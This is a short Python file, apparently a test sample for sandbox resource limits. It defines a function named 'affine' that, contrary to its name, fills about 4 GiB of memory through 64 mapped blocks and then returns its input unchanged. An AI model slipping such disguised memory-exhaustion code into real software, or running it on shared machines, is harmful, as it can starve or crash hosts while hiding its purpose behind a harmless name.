import mmap


def affine(x):
    kept = []
    for _ in range(64):
        block = mmap.mmap(-1, 1 << 26)
        block.write(b"a" * (1 << 26))
        kept.append(block)
    return x
